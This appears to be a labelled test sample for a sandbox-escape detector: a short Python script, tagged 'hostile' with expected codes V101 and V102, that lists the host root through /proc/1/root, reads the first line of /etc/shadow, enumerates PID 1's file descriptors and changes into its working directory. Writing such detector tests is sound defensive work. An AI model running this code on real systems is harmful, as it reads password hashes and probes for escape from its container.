# label: hostile
# expect: V101 V102
# note: Looks for the host's root behind /proc/1/root and the supervisor's descriptors.
import os

ROOT = "/proc/1/root"
print(os.listdir(ROOT))
print(open(ROOT + "/etc/shadow").readline())

for fd in os.listdir("/proc/1/fd"):
    print(fd, os.readlink("/proc/1/fd/" + fd))

os.chdir("/proc/1/cwd")
print(os.getcwd())
